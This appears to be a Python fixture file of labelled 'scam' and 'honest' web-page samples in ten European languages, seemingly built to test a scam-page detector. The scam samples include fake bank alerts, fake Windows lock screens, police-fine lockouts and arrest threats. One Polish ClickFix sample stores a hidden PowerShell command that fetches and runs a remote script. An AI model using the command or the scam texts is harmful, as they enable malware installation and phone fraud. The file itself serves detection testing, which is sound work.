"""Polish, Swedish, Danish, Finnish, Norwegian, Czech, Hungarian, Romanian, Turkish, Greek: review 46's blind pages."""
from kit import P

# ---- pl
P('pl_s_pko', 'scam', 'https://pko-bezpieczenstwo-konta.com/', 'callus-bank', 'pl', 'Konto zablokowane',
  '''PKO Bank Polski - komunikat bezpieczeństwa
Wykryliśmy podejrzany przelew na kwotę 4 200,00 zł. Dostęp do bankowości został tymczasowo zablokowany.
Aby anulować przelew, niezwłocznie zadzwoń do działu bezpieczeństwa: 800 555 014.''')

P('pl_s_allegro', 'scam', 'https://allegro-zwrot-platnosci.com/', 'callus-market', 'pl', 'Allegro - zamówienie',
  '''Twoje zamówienie nr 5550-1187 (iPhone 15, 5 999 zł) zostało opłacone.
Jeśli to nie Ty, zadzwoń natychmiast do działu reklamacji Allegro: 22 555 01 88, aby otrzymać zwrot.''')

P('pl_s_bsod', 'scam', 'https://ostrzezenie-pc.azurewebsites.net/', 'screen-bsod', 'pl', 'Zabezpieczenia Windows',
  '''Komputer został zablokowany ze względów bezpieczeństwa
Wykryto wirusa (Trojan). Twoje hasła i dane bankowe są zagrożone.
Nie wyłączaj komputera. Zadzwoń do pomocy technicznej Microsoft: 22 555 01 75''', beh='fullscreen')

P('pl_s_captcha', 'scam', 'https://weryfikacja-czlowiek.top/', 'clickfix-captcha', 'pl', 'Weryfikacja',
  '''Nie jestem robotem
Aby potwierdzić, naciśnij Windows + R, następnie Ctrl + V i Enter.''', clip='powershell -w h -c "iwr pl.example-host.top/c.ps1|iex" # Nie jestem robotem ID 5550144')

P('pl_h_inpost', 'honest', 'https://inpost.pl/pomoc-paczka', 'h-fraudwarn', 'pl', 'Pomoc | InPost',
  '''Uwaga na fałszywe SMS-y o dopłacie do paczki. InPost nie prosi o dopłaty przez linki i nie każe dzwonić pod nieznane numery.
Status paczki sprawdzisz w aplikacji InPost Mobile. Infolinia: 722 555 010.''')

P('pl_h_repair', 'honest', 'https://www.serwis-komputerowy-krakow.example/', 'h-repair', 'pl', 'Serwis komputerowy Kraków',
  '''Komputer zablokowany przez wirusa? Usuwamy wirusy, odzyskujemy dane, naprawiamy laptopy.
Zadzwoń: 12 555 01 02, pon.-pt. 9-17.''')

P('pl_h_komornik', 'honest', 'https://www.komornik-przyklad.example/', 'h-debtcollector', 'pl', 'Kancelaria Komornicza',
  '''Kancelaria Komornicza przy Sądzie Rejonowym
Wpłaty na poczet egzekucji prosimy dokonywać wyłącznie na rachunek kancelarii podany w piśmie, z sygnaturą sprawy.
Kontakt: 12 555 01 60. Komornik nigdy nie żąda płatności kartami podarunkowymi.''')

# ---- sv
P('sv_s_swedbank', 'scam', 'https://swedbank-sakerhet.se-konto.com/', 'callus-bank', 'sv', 'Konto spärrat',
  '''Swedbank säkerhetsmeddelande
Vi har upptäckt en misstänkt överföring på 12 400 kr. Ditt kort har spärrats tillfälligt.
Ring vår bedrägeriavdelning omedelbart på 020-555 01 42 för att stoppa överföringen.''')

P('sv_s_bsod', 'scam', 'https://varning-pc.z2.web.core.windows.net/', 'screen-bsod', 'sv', 'Windows-säkerhet',
  '''Åtkomst till den här datorn har blockerats
Din dator är infekterad med spionprogram. Lösenord och bankuppgifter är i fara.
Stäng inte av datorn. Ring Microsoft support: 020-555 01 75 (avgiftsfritt)''', beh='fullscreen')

P('sv_s_postnord', 'scam', 'https://postnord-paket-tull.info/', 'callus-delivery', 'sv', 'Paket kvarhållet',
  '''PostNord: ditt paket hålls kvar i tullen. Ring kundtjänst på 08-555 01 21 inom 24 timmar annars returneras paketet.''')

P('sv_h_bank', 'honest', 'https://www.swedbank.se/privat/sakerhet', 'h-fraudwarn', 'sv', 'Säkerhet | Swedbank',
  '''Vi ringer aldrig och ber dig logga in med BankID eller flytta pengar till ett säkert konto.
Ser du en varning i webbläsaren som säger att datorn är låst och ber dig ringa ett nummer? Ring inte. Spärra kort: 08-555 01 24.''')

P('sv_h_polis', 'honest', 'https://polisen.se/utsatt-for-brott/bedrageri/falsk-support', 'h-police', 'sv', 'Falsk teknisk support',
  '''Bedragare visar falska varningar om att datorn är låst och att du ska ringa Microsoft. Polisen låser aldrig datorer och kräver aldrig böter via internet.''')

# ---- da
P('da_s_danske', 'scam', 'https://danskebank-sikkerhed.dk-konto.com/', 'callus-bank', 'da', 'Konto spærret',
  '''Danske Bank sikkerhedsadvarsel
Vi har registreret et mistænkeligt køb på 8.900 kr. Dit kort er midlertidigt spærret.
Ring straks til vores afdeling for svindel på 80 55 50 14 for at stoppe betalingen.''')

P('da_s_bsod', 'scam', 'https://advarsel-pc.azurewebsites.net/', 'screen-bsod', 'da', 'Windows-sikkerhed',
  '''Adgang til denne computer er blokeret
Din computer er inficeret med en trojaner. Dine adgangskoder og bankoplysninger er i fare.
Sluk ikke computeren. Ring til Microsoft support: 80 55 50 17''', beh='fullscreen')

P('da_s_mitid', 'scam', 'https://mitid-opdatering.site/', 'debt-arrest', 'da', 'Skattestyrelsen',
  '''Skattestyrelsen: du har en ubetalt restskat på 14.250 kr. Der er udstedt en arrestordre.
Ring til inddrivelse i dag på 70 55 50 26 for at undgå anholdelse.''')

P('da_h_repair', 'honest', 'https://www.pc-hjaelp-aarhus.example/', 'h-repair', 'da', 'PC-hjælp Aarhus',
  '''Er din computer langsom eller ramt af virus? Vi fjerner virus, redder data og reparerer bærbare.
Ring 86 55 50 10, mandag-fredag 9-17.''')

P('da_h_skat', 'honest', 'https://skat.dk/borger/betaling/restskat', 'h-court', 'da', 'Betal restskat',
  '''Har du restskat, kan du betale den via skat.dk med MitID. Betaler du ikke, bliver gælden sendt til inddrivelse hos Gældsstyrelsen.
Skattestyrelsen ringer aldrig og truer med anholdelse.''')

# ---- fi
P('fi_s_op', 'scam', 'https://op-turvallisuus-tili.com/', 'callus-bank', 'fi', 'Tili lukittu',
  '''OP turvallisuusilmoitus
Havaitsimme epäilyttävän 2 300 € tilisiirron. Korttisi on suljettu väliaikaisesti.
Soita heti petostentorjuntaan numeroon 0800 555 014 siirron peruuttamiseksi.''')

P('fi_s_bsod', 'scam', 'https://varoitus-pc.z1.web.core.windows.net/', 'screen-bsod', 'fi', 'Windowsin suojaus',
  '''Pääsy tähän tietokoneeseen on estetty
Tietokoneesi on saastunut vakoiluohjelmalla. Salasanasi ja pankkitietosi ovat vaarassa.
Älä sammuta tietokonetta. Soita Microsoftin tukeen: 0800 555 017''', beh='fullscreen')

P('fi_h_news', 'honest', 'https://www.uutiset-esimerkki.example/teknologia/valetuki', 'h-news', 'fi', 'Valetuki huijasi eläkeläistä',
  '''Eläkeläisen tietokoneelle ilmestyi ilmoitus: "Tietokoneesi on lukittu, soita Microsoftin tukeen". Huijari pyysi etäyhteyttä ja pankkitunnuksia.
Poliisi muistuttaa, ettei Microsoft koskaan näytä puhelinnumeroa virheilmoituksessa.''')

P('fi_h_kela', 'honest', 'https://www.traficom-esimerkki.example/kyberturva/ohjeet', 'h-consumer', 'fi', 'Näin tunnistat huijaussivun',
  '''Jos selain menee koko näytön tilaan ja kehottaa soittamaan tukeen, kyse on huijauksesta. Sulje selain. Älä koskaan anna etäyhteyttä tuntemattomalle.''')

# ---- nb
P('nb_s_dnb', 'scam', 'https://dnb-sikkerhet-konto.com/', 'callus-bank', 'nb', 'Konto sperret',
  '''DNB sikkerhetsvarsel
Vi har oppdaget en mistenkelig overføring på 15 900 kr. Kortet ditt er midlertidig sperret.
Ring vår svindelavdeling umiddelbart på 800 55 014 for å stoppe overføringen.''')

P('nb_s_bsod', 'scam', 'https://advarsel-no.azurewebsites.net/', 'screen-bsod', 'nb', 'Windows-sikkerhet',
  '''Tilgang til denne datamaskinen er blokkert
Datamaskinen din er infisert med spionprogram. Passord og bankopplysninger er i fare.
Ikke slå av datamaskinen. Ring Microsoft kundestøtte: 800 55 017''', beh='fullscreen')

P('nb_h_helpdesk', 'honest', 'https://hjelp.kommune-eksempel.example/it', 'h-helpdesk', 'nb', 'IT-brukerstøtte',
  '''Glemt passord eller låst bruker? Ring IT-brukerstøtte på 55 55 01 50 eller send en sak i portalen. Vi spør aldri om passordet ditt.''')

P('nb_h_dnb', 'honest', 'https://www.dnb.no/sikkerhet/svindel', 'h-fraudwarn', 'nb', 'Svindel | DNB',
  '''Svindlere viser falske varsler om at datamaskinen er låst. DNB ber deg aldri om å installere fjernstyring eller flytte penger. Sperre kort: 915 55 014.''')

# ---- cs
P('cs_s_csob', 'scam', 'https://csob-bezpecnost-uctu.com/', 'callus-bank', 'cs', 'Účet zablokován',
  '''ČSOB bezpečnostní upozornění
Zaznamenali jsme podezřelou platbu 24 900 Kč. Vaše karta byla dočasně zablokována.
Okamžitě volejte naše bezpečnostní oddělení na 800 555 014, abyste platbu zrušili.''')

P('cs_s_bsod', 'scam', 'https://varovani-pc.azurewebsites.net/', 'screen-bsod', 'cs', 'Zabezpečení Windows',
  '''Přístup k tomuto počítači byl zablokován
Váš počítač je infikován trojským koněm. Hesla a bankovní údaje jsou v ohrožení.
Nevypínejte počítač. Volejte podporu Microsoft: 800 555 017''', beh='fullscreen')

P('cs_s_policie', 'scam', 'https://policie-cr-pokuta.top/', 'police-lock', 'cs', 'Policie ČR',
  '''Váš prohlížeč byl zablokován Policií České republiky kvůli prohlížení nelegálního obsahu.
Pro odblokování zaplaťte pokutu 5 000 Kč do 24 hodin. Jinak bude zahájeno trestní řízení.''', beh='fullscreen,key_block')

P('cs_h_repair', 'honest', 'https://www.opravy-pc-brno.example/', 'h-repair', 'cs', 'Opravy PC Brno',
  '''Počítač zamrzá nebo má virus? Odstraníme viry, zachráníme data. Volejte 541 555 010.''')

P('cs_h_exekutor', 'honest', 'https://www.exekutorsky-urad.example.cz/platba', 'h-debtcollector', 'cs', 'Exekutorský úřad - platba',
  '''Platby vymáhané pohledávky zasílejte pouze na účet úřadu s variabilním symbolem spisové značky. Informace: 541 555 060.''')

# ---- hu
P('hu_s_otp', 'scam', 'https://otp-biztonsag-szamla.com/', 'callus-bank', 'hu', 'Számla zárolva',
  '''OTP Bank biztonsági figyelmeztetés
Gyanús, 349 000 Ft összegű utalást észleltünk. Kártyáját ideiglenesen letiltottuk.
Hívja azonnal csalásmegelőzési osztályunkat a 06 80 555 014 számon.''')

P('hu_s_bsod', 'scam', 'https://figyelmeztetes-pc.azurewebsites.net/', 'screen-bsod', 'hu', 'Windows biztonság',
  '''A számítógéphez való hozzáférés le van tiltva
A számítógépe trójai vírussal fertőzött. Jelszavai és banki adatai veszélyben vannak.
Ne kapcsolja ki a számítógépet. Hívja a Microsoft ügyfélszolgálatot: 06 80 555 017''', beh='fullscreen')

P('hu_h_police', 'honest', 'https://www.police.hu/hu/hirek-es-informaciok/bunmegelozes/hamis-figyelmeztetes', 'h-police', 'hu', 'Hamis figyelmeztetések',
  '''Csalók hamis ablakokat jelenítenek meg, amelyek szerint a számítógép zárolva van, és egy telefonszámot kell hívni. Ne hívja fel, zárja be a böngészőt.''')

P('hu_h_game', 'honest', 'https://jatek.pelda.example/urhajo', 'h-game', 'hu', 'Űrhajó',
  '''RENDSZERHIBA! A hajtómű túlmelegedett. Nyomd meg a SZÓKÖZT a meneküléshez. Játék vége, pontszám: 5501.''', beh='fullscreen')

# ---- ro
P('ro_s_bcr', 'scam', 'https://bcr-securitate-cont.com/', 'callus-bank', 'ro', 'Cont blocat',
  '''BCR - Alertă de securitate
Am detectat un transfer suspect de 5.400 lei. Cardul dumneavoastră a fost blocat temporar.
Sunați imediat la departamentul antifraudă: 0800 555 014 pentru a anula tranzacția.''')

P('ro_s_bsod', 'scam', 'https://avertizare-pc.azurewebsites.net/', 'screen-bsod', 'ro', 'Securitate Windows',
  '''Accesul la acest computer a fost blocat
Computerul dumneavoastră este infectat cu un troian. Parolele și datele bancare sunt în pericol.
Nu opriți computerul. Sunați la suportul Microsoft: 0800 555 017''', beh='fullscreen')

P('ro_h_anaf', 'honest', 'https://www.anaf.ro/anaf/internet/ANAF/despre_anaf/avertizari', 'h-consumer', 'ro', 'Avertizare ANAF',
  '''ANAF nu solicită plăți prin telefon și nu amenință cu arestarea. Mesajele care cer să sunați la un număr pentru a evita arestarea sunt tentative de fraudă.''')

P('ro_h_repair', 'honest', 'https://www.service-pc-cluj.example/', 'h-repair', 'ro', 'Service PC Cluj',
  '''Calculatorul este blocat sau are viruși? Eliminăm virușii, recuperăm datele. Sunați la 0264 555 010.''')

# ---- tr
P('tr_s_ziraat', 'scam', 'https://ziraat-guvenlik-hesap.com/', 'callus-bank', 'tr', 'Hesabınız bloke edildi',
  '''Ziraat Bankası Güvenlik Uyarısı
Hesabınızdan 18.500 TL tutarında şüpheli bir işlem tespit edildi. Kartınız geçici olarak bloke edilmiştir.
İşlemi iptal etmek için hemen 0850 555 01 42 numaralı güvenlik birimimizi arayın.''')

P('tr_s_bsod', 'scam', 'https://uyari-pc.azurewebsites.net/', 'screen-bsod', 'tr', 'Windows Güvenliği',
  '''Bu bilgisayara erişim engellendi
Bilgisayarınıza truva atı virüsü bulaştı. Şifreleriniz ve banka bilgileriniz tehlikede.
Bilgisayarı kapatmayın. Microsoft destek hattını arayın: 0800 555 0175''', beh='fullscreen')

P('tr_s_egm', 'scam', 'https://egm-siber-ceza.top/', 'police-lock', 'tr', 'Emniyet Genel Müdürlüğü',
  '''TARAYICINIZ ENGELLENDİ
Emniyet Genel Müdürlüğü Siber Suçlar birimi IP adresinizden yasadışı içerik görüntülendiğini tespit etti.
Engeli kaldırmak için 24 saat içinde 1.500 TL ceza ödemeniz gerekmektedir.''', beh='fullscreen,key_block')

P('tr_h_bank', 'honest', 'https://www.ziraatbank.com.tr/tr/guvenlik', 'h-fraudwarn', 'tr', 'Güvenlik | Ziraat',
  '''Bankamız sizden asla telefonla şifre istemez ve "güvenli hesaba" para aktarmanızı istemez. Kart kaybı için 0850 555 01 24.''')

P('tr_h_e-devlet', 'honest', 'https://www.turkiye.gov.tr/trafik-cezasi-sorgulama', 'h-court', 'tr', 'Trafik Cezası Sorgulama',
  '''Trafik cezalarınızı sorgulayabilir ve ödeyebilirsiniz. Ödeme yapılmazsa gecikme zammı uygulanır.''')

# ---- el
P('el_s_piraeus', 'scam', 'https://piraeus-asfaleia-logariasmos.com/', 'callus-bank', 'el', 'Ο λογαριασμός κλειδώθηκε',
  '''Τράπεζα Πειραιώς - Ειδοποίηση ασφαλείας
Εντοπίσαμε ύποπτη συναλλαγή 2.150 €. Η κάρτα σας μπλοκαρίστηκε προσωρινά.
Καλέστε αμέσως το τμήμα απάτης στο 800 555 0142 για να ακυρώσετε τη συναλλαγή.''')

P('el_s_bsod', 'scam', 'https://proeidopoiisi-pc.azurewebsites.net/', 'screen-bsod', 'el', 'Ασφάλεια των Windows',
  '''Η πρόσβαση σε αυτόν τον υπολογιστή έχει αποκλειστεί
Ο υπολογιστής σας έχει μολυνθεί με δούρειο ίππο. Οι κωδικοί και τα τραπεζικά σας στοιχεία κινδυνεύουν.
Μην απενεργοποιήσετε τον υπολογιστή. Καλέστε την υποστήριξη Microsoft: 800 555 0175''', beh='fullscreen')

P('el_h_police', 'honest', 'https://www.astynomia.gr/cybercrime/symvoules', 'h-police', 'el', 'Συμβουλές για απάτες',
  '''Απατεώνες εμφανίζουν ψεύτικα μηνύματα ότι ο υπολογιστής είναι κλειδωμένος και ζητούν να καλέσετε έναν αριθμό. Μην καλέσετε. Η Αστυνομία δεν ζητά ποτέ πρόστιμα μέσω διαδικτύου.''')

P('el_h_repair', 'honest', 'https://www.episkeui-pc-athina.example/', 'h-repair', 'el', 'Επισκευή υπολογιστών',
  '''Ο υπολογιστής σας είναι αργός ή έχει ιό; Αφαίρεση ιών, ανάκτηση δεδομένων. Καλέστε 210 555 0102.''')
